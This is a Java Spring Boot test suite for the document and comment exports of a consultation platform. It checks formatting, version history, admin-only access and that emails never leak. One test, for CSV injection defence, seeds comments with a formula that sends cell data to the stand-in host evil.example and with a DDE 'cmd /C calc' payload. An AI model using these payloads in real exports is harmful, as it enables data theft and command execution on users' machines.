package org.parley.export;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.xwpf.extractor.XWPFWordExtractor;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.parley.Pages;
import org.parley.account.AccountService;
import org.parley.account.NewAccount;
import org.parley.account.Role;
import org.parley.account.SignedInAccount;
import org.parley.account.StakeholderGroup;
import org.parley.consultation.ConsultationService;
import org.parley.consultation.ConsultationStatus;
import org.parley.consultation.NewConsultation;
import org.parley.consultation.NewVersion;
import org.parley.consultation.TextService;
import org.parley.consultation.VersionSource;
import org.parley.discussion.DiscussionHistoryWriter;
import org.parley.discussion.HistoricComment;
import org.parley.importing.ImportFormat;
import org.parley.importing.ImportService;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.springframework.test.web.servlet.request.RequestPostProcessor;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;

/**
 * The exports of a consultation imported from Markdown (a heading, a numbered list item, a
 * table), with comments by people whose emails must appear in no export, not even an admin's.
 */
@SpringBootTest
@AutoConfigureMockMvc
class ExportsTest {

    static final String TEXT = """
            # 1 Digital cooperation

            The first paragraph, about cooperation.

            1. A numbered item on inclusion.

            ## 1.1 Actions

            | Action | Level |
            |---|---|
            | Connect | High |
            """;

    static final String TRICKY_BODY = "Agree, but \"strongly\" so.\nSecond line, too.";

    @Autowired
    MockMvcTester mvc;

    @Autowired
    ConsultationService consultations;

    @Autowired
    TextService texts;

    @Autowired
    ImportService importer;

    @Autowired
    AccountService accounts;

    @Autowired
    DiscussionHistoryWriter history;

    @Autowired
    JdbcClient jdbc;

    String run;
    String slug;
    long amina;
    long adminId;
    RequestPostProcessor admin;
    RequestPostProcessor participant;
    List<Long> paragraphs;
    long tricky;
    long proposal;
    long withdrawn;

    @BeforeEach
    void anImportedConsultationWithComments() {
        run = String.valueOf(System.nanoTime());
        slug = "exports-" + run;
        consultations.create(new NewConsultation(slug, "Roadmap messages", null, null, null));
        importer.importText(slug, TEXT, ImportFormat.MARKDOWN);
        consultations.changeStatus(slug, ConsultationStatus.OPEN);
        amina = account("amina", "Amina Diallo", Role.PARTICIPANT);
        adminId = account("admin", "Ada Admin", Role.ADMIN);
        admin = user(new SignedInAccount(adminId, email("admin"), "x", "Ada Admin", Role.ADMIN, true));
        participant = user(new SignedInAccount(amina, email("amina"), "x", "Amina Diallo", Role.PARTICIPANT, true));
        paragraphs = jdbc.sql("SELECT p.id FROM paragraph p JOIN consultation c ON c.id = p.consultation_id "
                + "WHERE c.slug = :slug ORDER BY p.position").param("slug", slug).query(Long.class).list();
        Instant start = Instant.parse("2024-07-01T08:00:00Z");
        tricky = history.writeComment(new HistoricComment(paragraphs.get(0), amina, null, TRICKY_BODY,
                "about cooperation", start));
        proposal = history.writeComment(new HistoricComment(paragraphs.get(1), amina, null, "Say it better.", null,
                start.plusSeconds(60)));
        jdbc.sql("""
                UPDATE comment SET proposed_text = 'A numbered item on inclusion for all.', proposal_status = 'REJECTED',
                       decided_by = :admin, decided_at = :at, decision_reason = 'Too broad' WHERE id = :id""")
                .param("admin", adminId).param("at", java.sql.Timestamp.from(start.plusSeconds(120)))
                .param("id", proposal).update();
        jdbc.sql("INSERT INTO support (comment_id, account_id) VALUES (:id, :admin)")
                .param("id", proposal).param("admin", adminId).update();
        withdrawn = history.writeComment(new HistoricComment(paragraphs.get(0), amina, tricky, "Never mind.", null,
                start.plusSeconds(180)));
        jdbc.sql("UPDATE comment SET status = 'WITHDRAWN', withdrawn_at = now() WHERE id = :id")
                .param("id", withdrawn).update();
    }

    @Test
    void theMarkdownKeepsHeadingsNumbersListItemsAndTables() {
        var result = mvc.get().uri("/c/{slug}/export.md", slug).exchange();

        assertThat(result).hasStatusOk();
        assertThat(result.getResponse().getContentType()).isEqualTo("text/markdown;charset=UTF-8");
        assertThat(result.getResponse().getHeader("Content-Disposition"))
                .isEqualTo("attachment; filename=\"" + slug + ".md\"");
        assertThat(body(result)).isEqualTo("""
                # Roadmap messages

                ## 1 Digital cooperation

                **1.** The first paragraph, about cooperation.

                1. **2.** A numbered item on inclusion.

                ### 1.1 Actions

                **3.**

                | Action | Level |
                |---|---|
                | Connect | High |
                """);
    }

    @Test
    void aNewVersionIsExportedAndTheHistoryHasBothVersions() {
        texts.appendVersion(new NewVersion(paragraphs.get(0), 1, "The first paragraph, reworded.",
                VersionSource.ORGANISER_EDIT, "Clearer wording", adminId, null));

        String current = body(mvc.get().uri("/c/{slug}/export.md", slug).exchange());
        assertThat(current).contains("**1.** The first paragraph, reworded.")
                .doesNotContain("about cooperation").doesNotContain("Version history");

        String withHistory = body(mvc.get().uri("/c/{slug}/export.md?history=true", slug).exchange());
        String appendix = withHistory.substring(withHistory.indexOf("## Version history"));
        assertThat(appendix).contains("### Paragraph 1")
                .contains("Version 1 — ").contains("Imported")
                .contains("> The first paragraph, about cooperation.")
                .contains("Version 2 — ").contains("Organiser edit — written by organiser Ada Admin — Clearer wording")
                .contains("> The first paragraph, reworded.")
                .doesNotContain("Paragraph 2");
    }

    @Test
    void theHistoryInWordAndPdfShowsTheWordsWithTheirFormattingNotMarkdown() throws Exception {
        texts.appendVersion(new NewVersion(paragraphs.get(0), 1, "**The first paragraph**, *reworded*.",
                VersionSource.ORGANISER_EDIT, null, adminId, null));

        var word = mvc.get().uri("/c/{slug}/export.docx?history=true", slug).exchange();
        try (var document = new XWPFDocument(new ByteArrayInputStream(word.getResponse().getContentAsByteArray()))) {
            assertThat(document.getParagraphs().stream().map(paragraph -> paragraph.getRuns().stream()
                    .map(run -> run.text()).collect(java.util.stream.Collectors.joining())))
                    .contains("1. The first paragraph, reworded.", "The first paragraph, reworded.")
                    .noneMatch(text -> text.contains("*"));
            var runs = document.getParagraphs().stream().flatMap(paragraph -> paragraph.getRuns().stream()).toList();
            assertThat(runs).filteredOn(run -> "The first paragraph".equals(run.text())).hasSize(2)
                    .allMatch(run -> run.isBold());
            assertThat(runs).filteredOn(run -> "reworded".equals(run.text())).hasSize(2).allMatch(run -> run.isItalic());
        }
        var pdf = mvc.get().uri("/c/{slug}/export.pdf?history=true", slug).exchange();
        try (var document = Loader.loadPDF(pdf.getResponse().getContentAsByteArray())) {
            // a PDF's text comes out font by font, so the bold and italic words are looked for on their own
            assertThat(new PDFTextStripper().getText(document)).contains("The first paragraph", "reworded")
                    .doesNotContain("**", "*reworded*");
        }
    }

    @Test
    void theWordDocumentOpensAndHasTheHeadingsParagraphsAndTable() throws Exception {
        var result = mvc.get().uri("/c/{slug}/export.docx?history=true", slug).exchange();
        assertThat(result).hasStatusOk();
        assertThat(result.getResponse().getHeader("Content-Disposition")).contains(slug + ".docx");

        try (var document = new XWPFDocument(new ByteArrayInputStream(result.getResponse().getContentAsByteArray()));
             var extractor = new XWPFWordExtractor(document)) {
            assertThat(extractor.getText()).contains("Roadmap messages", "1 Digital cooperation", "1.1 Actions",
                    "The first paragraph, about cooperation.", "A numbered item on inclusion.");
            assertThat(document.getTables()).hasSize(1);
            assertThat(document.getTables().get(0).getRow(1).getCell(0).getText()).isEqualTo("Connect");
        }
    }

    @Test
    void thePdfHasTheHeadingsAndParagraphs() throws Exception {
        var result = mvc.get().uri("/c/{slug}/export.pdf", slug).exchange();
        assertThat(result).hasStatusOk();
        assertThat(result.getResponse().getContentType()).isEqualTo("application/pdf");

        try (var pdf = Loader.loadPDF(result.getResponse().getContentAsByteArray())) {
            String text = new PDFTextStripper().getText(pdf);
            assertThat(text).contains("Roadmap messages", "1 Digital cooperation", "1.1 Actions",
                    "The first paragraph, about cooperation.", "A numbered item on inclusion.", "Connect");
        }
    }

    @Test
    void theCsvIsRfc4180WithABomAndOneRowPerPublishedComment() throws Exception {
        var result = mvc.get().uri("/c/{slug}/comments.csv", slug).exchange();
        assertThat(result).hasStatusOk();
        byte[] bytes = result.getResponse().getContentAsByteArray();
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertThat(csv).contains("\r\n");

        var records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv));
        assertThat(records.getHeaderNames()).containsExactlyElementsOf(ExportedComment.COLUMNS);
        List<CSVRecord> rows = records.getRecords();
        assertThat(rows).extracting(row -> row.get("id")).containsExactly(String.valueOf(tricky), String.valueOf(proposal));
        var first = rows.get(0);
        assertThat(first.get("body")).isEqualTo(TRICKY_BODY);
        assertThat(first.get("consultation")).isEqualTo(slug);
        assertThat(first.get("section_number")).isEqualTo("1");
        assertThat(first.get("section_title")).isEqualTo("Digital cooperation");
        assertThat(first.get("paragraph_number")).isEqualTo("1");
        assertThat(first.get("quote")).isEqualTo("about cooperation");
        assertThat(first.get("version")).isEqualTo("1");
        assertThat(first.get("author")).isEqualTo("Amina Diallo");
        assertThat(first.get("affiliation")).isEqualTo("Institute of amina");
        assertThat(first.get("stakeholder_group")).isEqualTo("CIVIL_SOCIETY");
        assertThat(first.get("created_at")).isEqualTo("2024-07-01T08:00:00Z");
        assertThat(first.get("status")).isEqualTo("PUBLISHED");
        var second = rows.get(1);
        assertThat(second.get("proposed_text")).isEqualTo("A numbered item on inclusion for all.");
        assertThat(second.get("proposal_status")).isEqualTo("REJECTED");
        assertThat(second.get("decided_by")).isEqualTo("Ada Admin");
        assertThat(second.get("decided_at")).isEqualTo("2024-07-01T08:02:00Z");
        assertThat(second.get("decision_reason")).isEqualTo("Too broad");
        assertThat(second.get("support_count")).isEqualTo("1");
    }

    /** OWASP's CSV injection advice: a cell a spreadsheet would evaluate starts with an apostrophe instead. */
    @Test
    void cellsThatASpreadsheetWouldEvaluateAreExportedAsText() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        jdbc.sql("UPDATE comment SET body = :body, quote_exact = :quote WHERE id = :id")
                .param("body", formula).param("quote", "\t=1+2").param("id", tricky).update();
        jdbc.sql("UPDATE comment SET proposed_text = '-2+3', decision_reason = :reason WHERE id = :id")
                .param("reason", "\r=cmd|' /C calc'!A0").param("id", proposal).update();
        jdbc.sql("UPDATE account SET display_name = '@SUM(1+1)', affiliation = '+1+1' WHERE id = :id")
                .param("id", amina).update();
        jdbc.sql("UPDATE section SET title = '=1+1' WHERE title = 'Digital cooperation' AND consultation_id = "
                + "(SELECT id FROM consultation WHERE slug = :slug)").param("slug", slug).update();

        var result = mvc.get().uri("/c/{slug}/comments.csv", slug).exchange();
        assertThat(result).hasStatusOk();
        byte[] bytes = result.getResponse().getContentAsByteArray();
        String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        var first = rows.get(0);
        assertThat(first.get("body")).isEqualTo("'" + formula);
        assertThat(first.get("quote")).isEqualTo("'\t=1+2");
        assertThat(first.get("author")).isEqualTo("'@SUM(1+1)");
        assertThat(first.get("affiliation")).isEqualTo("'+1+1");
        assertThat(first.get("section_title")).isEqualTo("'=1+1");
        assertThat(rows.get(1).get("proposed_text")).isEqualTo("'-2+3");
        assertThat(rows.get(1).get("decision_reason")).isEqualTo("'\r=cmd|' /C calc'!A0");
        assertThat(first.get("id")).isEqualTo(String.valueOf(tricky));
        for (var row : rows) {
            for (String cell : row.values()) {
                assertThat(cell).as("a cell a spreadsheet would evaluate").doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
    }

    @Test
    void theJsonHasEveryFieldOfEveryPublishedComment() throws Exception {
        var result = mvc.get().uri("/c/{slug}/comments.json", slug).exchange();
        assertThat(result).hasStatusOk();
        JsonNode json = JsonMapper.builder().build().readTree(body(result));

        assertThat(json.get("consultation").asString()).isEqualTo(slug);
        var list = json.get("comments");
        assertThat(list.size()).isEqualTo(2);
        var first = list.get(0);
        assertThat(first.propertyNames()).containsExactlyElementsOf(ExportedComment.COLUMNS);
        assertThat(first.get("body").asString()).isEqualTo(TRICKY_BODY);
        assertThat(first.get("paragraph_anchor").asString()).startsWith("p-");
        assertThat(first.get("parent_id").isNull()).isTrue();
        assertThat(list.get(1).get("support_count").asLong()).isEqualTo(1);
        assertThat(list.get(1).get("proposal_status").asString()).isEqualTo("REJECTED");
    }

    @Test
    void aQuoteARevisionReanchoredOrDetachedIsExportedWithTheWordsFirstQuoted() throws Exception {
        // what a re-import leaves: one quote placed on the new wording, one whose passage is gone
        jdbc.sql("""
                UPDATE comment SET quote_original = quote_exact, quote_exact = 'about close cooperation'
                WHERE id = :id""").param("id", tricky).update();
        jdbc.sql("""
                UPDATE comment SET quote_exact = 'numbered item', quote_original = 'numbered item', quote_detached_at = now()
                WHERE id = :id""").param("id", proposal).update();

        String csv = body(mvc.get().uri("/c/{slug}/comments.csv", slug).exchange()).substring(1);
        var rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        assertThat(rows.get(0).get("quote")).isEqualTo("about close cooperation");
        assertThat(rows.get(0).get("quote_original")).isEqualTo("about cooperation");
        assertThat(rows.get(0).get("quote_reanchored")).isEqualTo("true");
        assertThat(rows.get(0).get("quote_detached")).isEqualTo("false");
        assertThat(rows.get(1).get("quote_original")).isEqualTo("numbered item");
        assertThat(rows.get(1).get("quote_reanchored")).isEqualTo("false");
        assertThat(rows.get(1).get("quote_detached")).isEqualTo("true");

        var json = JsonMapper.builder().build().readTree(body(mvc.get().uri("/c/{slug}/comments.json", slug).exchange()))
                .get("comments");
        assertThat(json.get(0).get("quote_original").asString()).isEqualTo("about cooperation");
        assertThat(json.get(0).get("quote_reanchored").asBoolean()).isTrue();
        assertThat(json.get(1).get("quote_detached").asBoolean()).isTrue();
        assertThat(json.get(1).get("quote_reanchored").asBoolean()).isFalse();
    }

    @Test
    void allIsForAdminsAndAddsTheWithdrawnComment() throws Exception {
        assertThat(mvc.get().uri("/c/{slug}/comments.csv?all=true", slug)).hasStatus(403);
        assertThat(mvc.get().uri("/c/{slug}/comments.json?all=true", slug).with(participant)).hasStatus(403);

        var json = JsonMapper.builder().build()
                .readTree(body(mvc.get().uri("/c/{slug}/comments.json?all=true", slug).with(admin).exchange()));
        assertThat(json.get("comments").size()).isEqualTo(3);
        var last = json.get("comments").get(1);
        assertThat(last.get("id").asLong()).isEqualTo(withdrawn);
        assertThat(last.get("status").asString()).isEqualTo("WITHDRAWN");
        assertThat(last.get("parent_id").asLong()).isEqualTo(tricky);
        assertThat(body(mvc.get().uri("/c/{slug}/comments.csv?all=true", slug).with(admin).exchange()))
                .contains("\"WITHDRAWN\"");
    }

    @Test
    void noExportHasAnEmailNotEvenForAnAdmin() throws Exception {
        texts.appendVersion(new NewVersion(paragraphs.get(0), 1, "Reworded.", VersionSource.ORGANISER_EDIT,
                null, adminId, null));
        for (var viewer : List.of(participant, admin)) {
            for (String path : List.of("export.md?history=true", "comments.csv?all=true", "comments.json?all=true",
                    "comments.csv", "comments.json")) {
                var result = mvc.get().uri("/c/" + slug + "/" + path).with(viewer).exchange();
                if (result.getResponse().getStatus() == 200) {
                    assertThat(body(result)).contains(path.startsWith("comments") ? "Amina Diallo" : "Ada Admin").doesNotContain("@secret.example").doesNotContain("amina-" + run).doesNotContain("admin-" + run);
                }
            }
            for (String path : List.of("export.docx?history=true", "export.pdf?history=true")) {
                var result = mvc.get().uri("/c/" + slug + "/" + path).with(viewer).exchange();
                assertThat(result).hasStatusOk();
                String text = path.startsWith("export.docx")
                        ? new XWPFWordExtractor(new XWPFDocument(new ByteArrayInputStream(result.getResponse().getContentAsByteArray()))).getText()
                        : new PDFTextStripper().getText(Loader.loadPDF(result.getResponse().getContentAsByteArray()));
                assertThat(text).contains("Ada Admin").doesNotContain("@secret.example").doesNotContain("amina-" + run).doesNotContain("admin-" + run);
            }
        }
    }

    @Test
    void aDraftIsNotFoundExceptForAdmins() {
        String draft = "draft-export-" + run;
        consultations.create(new NewConsultation(draft, "Draft", null, null, null));
        importer.importText(draft, TEXT, ImportFormat.MARKDOWN);

        for (String path : List.of("export.md", "export.docx", "export.pdf", "comments.csv", "comments.json")) {
            assertThat(mvc.get().uri("/c/" + draft + "/" + path)).hasStatus(404);
            assertThat(mvc.get().uri("/c/" + draft + "/" + path).with(participant)).hasStatus(404);
            assertThat(mvc.get().uri("/c/" + draft + "/" + path).with(admin)).hasStatusOk();
        }
    }

    @Test
    void theFinalTextIsMarkedOnlyOncePublished() {
        var open = Pages.html(mvc.get().uri("/c/{slug}", slug).exchange());
        assertThat(open.select(".published-banner")).isEmpty();
        assertThat(open.select(".final-version")).isEmpty();
        assertThat(open.select(".export-box a.export-md").attr("href")).isEqualTo("/c/" + slug + "/export.md");
        assertThat(open.select(".export-box a").eachAttr("href")).contains("/c/" + slug + "/export.docx",
                "/c/" + slug + "/export.pdf", "/c/" + slug + "/comments.csv", "/c/" + slug + "/comments.json",
                "/c/" + slug + "/export.pdf?history=true");

        texts.appendVersion(new NewVersion(paragraphs.get(0), 1, "The first paragraph, final.",
                VersionSource.ORGANISER_EDIT, null, adminId, null));
        consultations.changeStatus(slug, ConsultationStatus.CLOSED);
        assertThat(Pages.html(mvc.get().uri("/c/{slug}", slug).exchange()).select(".final-version")).isEmpty();

        consultations.changeStatus(slug, ConsultationStatus.PUBLISHED);
        var published = Pages.html(mvc.get().uri("/c/{slug}", slug).exchange());
        assertThat(published.select(".published-banner").text()).startsWith("Final text, published on ")
                .contains(String.valueOf(java.time.Year.now(java.time.ZoneOffset.UTC).getValue()));
        var markers = published.select(".final-version a");
        assertThat(markers).hasSize(3);
        assertThat(markers.first().text()).isEqualTo("final — version 2");
        assertThat(markers.get(1).text()).isEqualTo("final — version 1");
        String anchor = jdbc.sql("SELECT anchor FROM paragraph WHERE id = :id").param("id", paragraphs.get(0))
                .query(String.class).single();
        assertThat(markers.first().attr("href")).isEqualTo("/c/" + slug + "/p/" + anchor + "/history");
        assertThat(body(mvc.get().uri("/c/{slug}/export.md", slug).exchange()))
                .contains("**1.** The first paragraph, final.");
    }

    private static String body(MvcTestResult result) {
        assertThat(result).hasStatusOk();
        return new String(result.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
    }

    private String email(String name) {
        return name + "-" + run + "@secret.example";
    }

    private long account(String name, String displayName, Role role) {
        accounts.createIfAbsent(new NewAccount(email(name), "a long enough password", displayName, role,
                "Institute of " + name, StakeholderGroup.CIVIL_SOCIETY, null));
        return accounts.idOf(email(name)).orElseThrow();
    }
}
